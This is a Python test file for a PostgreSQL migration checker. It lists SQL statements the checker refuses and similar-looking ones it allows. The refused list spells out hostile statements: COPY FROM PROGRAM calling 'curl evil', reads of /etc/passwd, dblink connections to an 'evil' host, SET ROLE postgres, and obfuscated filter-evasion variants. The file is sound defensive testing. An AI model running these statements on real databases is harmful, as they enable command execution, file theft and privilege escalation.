"""SQL that a rehearsal refuses, and what looks like it."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shipcheck.migrations.sql.postgresql_forbidden import sql_facts

REFUSED = [
    "COPY t FROM PROGRAM 'curl evil'",
    "COPY t TO PROGRAM 'sh'",
    "COPY t FROM '/etc/passwd'",
    "COPY t TO '/tmp/x'",
    "SELECT lo_import('/etc/passwd')",
    "SELECT lo_export(1, '/tmp/x')",
    "SELECT pg_catalog.pg_read_file('/etc/passwd')",
    "SELECT pg_read_binary_file('x')",
    "SELECT * FROM pg_ls_dir('/')",
    "CREATE TABLE t AS SELECT pg_stat_file('x')",
    "ALTER TABLE t ADD a text DEFAULT pg_read_file('x')",
    "CREATE INDEX ON t (pg_read_file(a))",
    "SELECT dblink('host=evil', 'x')",
    "SELECT dblink_connect('x')",
    "CREATE EXTENSION dblink",
    "CREATE EXTENSION postgres_fdw",
    "CREATE EXTENSION plpython3u",
    "CREATE EXTENSION file_fdw",
    "CREATE SERVER s FOREIGN DATA WRAPPER w",
    "CREATE FOREIGN TABLE t (a int) SERVER s",
    "IMPORT FOREIGN SCHEMA s FROM SERVER x INTO y",
    "CREATE USER MAPPING FOR me SERVER s",
    "CREATE LANGUAGE plperlu",
    "CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'lib', 'f'",
    "CREATE FUNCTION f() RETURNS int LANGUAGE internal AS 'x'",
    "CREATE FUNCTION f() RETURNS int LANGUAGE plperlu AS 'x'",
    "DO LANGUAGE plpython3u $$ import os $$",
    "LOAD 'x'",
    "ALTER SYSTEM SET archive_command = 'x'",
    "SET archive_command = 'x'",
    "SET session_replication_role = replica",
    "SET ROLE postgres",
    "SET SESSION AUTHORIZATION postgres",
    "SET LOCAL dynamic_library_path = '/tmp'",
    "SELECT set_config('role', 'x', false)",
    "SELECT set_config(a, 'x', false) FROM t",
    "RESET ROLE",
    "CREATE ROLE r",
    "ALTER ROLE r SUPERUSER",
    "GRANT pg_read_server_files TO me",
    "DROP ROLE r",
    "DROP OWNED BY r",
    "CREATE DATABASE d",
    "DROP DATABASE d",
    "ALTER DATABASE d SET x.y = 1",
    "CREATE TABLESPACE s LOCATION '/tmp'",
    "CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p",
    "CREATE PUBLICATION p FOR ALL TABLES",
    "SELECT pg_terminate_backend(1)",
    "SELECT pg_reload_conf()",
    "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()",
    "PREPARE TRANSACTION 'x'",
    "DO $$ BEGIN COPY t FROM PROGRAM 'x'; END $$",
    "DO $$ BEGIN PERFORM pg_read_file('x'); END $$",
    "DO $$ BEGIN PERFORM \"pg_read_file\"('x'); END $$",
    "DO $$ BEGIN PERFORM/**/pg_read_file/**/('x'); END $$",
    "DO $$ BEGIN EXECUTE 'al' || 'ter system'; END $$",
    "DO $$ BEGIN EXECUTE x; END $$",
    "DO $$ BEGIN EXECUTE format('%s', x); END $$",
    "DO $$ BEGIN EXECUTE 'COPY t FROM PROGRAM ''x'''; END $$",
    "DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE x LOOP END LOOP; END $$",
    "DO $$ BEGIN PERFORM U&\"pg\\005fread_file\"('x'); END $$",
    "CREATE FUNCTION f() RETURNS int AS $$ SELECT pg_read_file('x') $$ LANGUAGE sql",
    "CREATE FUNCTION f() RETURNS text RETURN pg_read_file('x')",
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = x AS 'SELECT 1'",
    "CREATE RULE r AS ON INSERT TO t DO ALSO SELECT pg_read_file('x')",
    "EXPLAIN ANALYZE SELECT pg_read_file('x')",
    "PREPARE p AS SELECT pg_read_file('x')",
    "SELECT 1; SELECT 2; LOAD 'x'",
    "SELECT query_to_xml('COPY t FROM PROGRAM ''x''', true, true, '')",
    "COPY t TO STDOUT",
    "DO $$ BEGIN PERFORM '/*'; COPY t FROM PROGRAM 'id'; PERFORM '*/'; END $$",
    "DO $$ BEGIN PERFORM '--'; COPY t FROM PROGRAM 'id'; END $$",
    "DO $$ BEGIN <<a>> COPY t FROM PROGRAM 'id'; END $$",
    "DO $$ BEGIN EXECUTE '/**/COPY t FROM PROGRAM ''id'''; END $$",
    "DO $$ BEGIN EXECUTE E'co\\160y t FROM PROGRAM ''id'''; END $$",
    "DO $$ BEGIN EXECUTE $x$DO 'BEGIN COPY t FROM PROGRAM ''id''; END'$x$; END $$",
    "DO $$ BEGIN EXECUTE 'a' || '" + " " * 500 + "'; END $$",
    "DO $$ DECLARE function text; BEGIN EXECUTE function || 'x'; END $$",
    "DO $$ BEGIN EXECUTE format('%I t FROM PROGRAM %L', n, 'id'); END $$",
    "DO $$ BEGIN EXECUTE format('%1$s', n); END $$",
    "DO $$ BEGIN EXECUTE format('SELECT 1') || n; END $$",
    'DO $$ BEGIN SET "role" TO x; END $$',
    "DO $$ BEGIN SET LOCAL/**/SESSION AUTHORIZATION x; END $$",
    "DO $$ BEGIN UPDATE pg_catalog.pg_settings SET setting = 'x' WHERE name = 'role'; END $$",
    "UPDATE pg_settings SET setting = 'x' WHERE name = 'role'",
    "CREATE TRIGGER g BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION pg_read_file()",
    "CREATE AGGREGATE a (text) (sfunc = pg_read_file, stype = text)",
    "CREATE OPERATOR === (leftarg = text, rightarg = text, function = pg_read_file)",
    "CREATE CAST (text AS t) WITH FUNCTION pg_read_file(text)",
    "COMMENT ON DATABASE other IS 'x'",
    "COMMENT ON ROLE other IS 'x'",
    "GRANT SET ON PARAMETER session_replication_role TO x",
    "SELECT ts_rewrite('a'::tsquery, 'SELECT 1')",
    "not SQL at all",
    "SELECT '\0'",
]

ALLOWED = [
    "CREATE TABLE t (id bigserial PRIMARY KEY, copy text DEFAULT 'COPY t FROM PROGRAM')",
    "ALTER TABLE t ADD COLUMN load int",
    "CREATE INDEX CONCURRENTLY i ON t (lower(a)) WHERE b > 0",
    "SET lock_timeout = '5s'",
    "SET LOCAL statement_timeout = 0",
    "SELECT pg_catalog.set_config('search_path', '', false)",
    "CREATE EXTENSION IF NOT EXISTS pg_trgm",
    'CREATE EXTENSION "uuid-ossp"',
    "CREATE TYPE mood AS ENUM ('a')",
    "ALTER TABLE t OWNER TO app",
    "GRANT SELECT ON t TO reader",
    "UPDATE t SET a = format('%s', b)",
    "COMMENT ON TABLE t IS 'pg_read_file()'",
    "DO $$ BEGIN ALTER TABLE t ADD a int; EXCEPTION WHEN duplicate_column THEN NULL; END $$",
    "DO $$ BEGIN EXECUTE 'ALTER TABLE t ADD a int'; END $$",
    "DO $$ BEGIN EXECUTE format('ALTER TABLE %I ADD a int', n); END $$",
    "CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$",
    "CREATE TRIGGER g BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
    "VACUUM FULL t",
    "DO $$ BEGIN SET SESSION statement_timeout = 0; END $$",
    "DO $$ BEGIN UPDATE t SET http_status = 1; -- then copy it\nEND $$",
    "DO $$ DECLARE copy int; BEGIN copy := 1; RAISE NOTICE 'it''s; copy t'; END $$",
    "DO $$ BEGIN EXECUTE 'UPDATE t SET a = ''; b'' WHERE c = $1' USING 1; END $$",
    "DO $$ BEGIN EXECUTE format('DROP TABLE %I', lower('x')) ; END $$",
    "DO $$ BEGIN EXECUTE 'CREATE TRIGGER g AFTER INSERT ON t EXECUTE FUNCTION f()'; END $$",
    "DO $$ BEGIN GRANT EXECUTE ON FUNCTION f() TO a; END $$",
    "COMMENT ON EXTENSION citext IS 'x'",
    "ALTER TABLE t REPLICA IDENTITY FULL",
    "ALTER TEXT SEARCH CONFIGURATION c ALTER MAPPING FOR word WITH simple",
]


@pytest.mark.parametrize("sql", REFUSED)
def test_what_reaches_outside_is_refused(sql: str) -> None:
    assert sql_facts(sql).refused


@pytest.mark.parametrize("sql", ALLOWED)
def test_what_stays_inside_may_run(sql: str) -> None:
    assert sql_facts(sql).refused == ""


def test_the_base_may_have_functions_that_build_sql() -> None:
    sql = "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'x' || y; END $$"
    assert "builds SQL as it runs" in sql_facts(sql).refused
    assert sql_facts(sql, dynamic=True).refused == ""
    assert sql_facts("DO $$ BEGIN PERFORM pg_read_file('x'); END $$", dynamic=True).refused


def test_statements_come_one_by_one() -> None:
    facts = sql_facts("-- ein Täßchen\nSELECT 'ü';;  CREATE TABLE é (a int) ; ")
    assert facts.statements == ("SELECT 'ü'", "CREATE TABLE é (a int)")


def test_extensions_and_roles_are_named() -> None:
    facts = sql_facts("CREATE EXTENSION citext; ALTER TABLE t OWNER TO a; GRANT ALL ON t TO b, a")
    assert (facts.extensions, facts.roles) == (("citext",), ("a", "b"))


def test_a_deep_expression_is_refused_and_nothing_breaks() -> None:
    assert sql_facts("SELECT " + "(" * 50_000 + "1" + ")" * 50_000).refused


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=60))
def test_any_text_has_an_answer(text: str) -> None:
    facts = sql_facts(text)
    assert facts.refused or all(facts.statements)
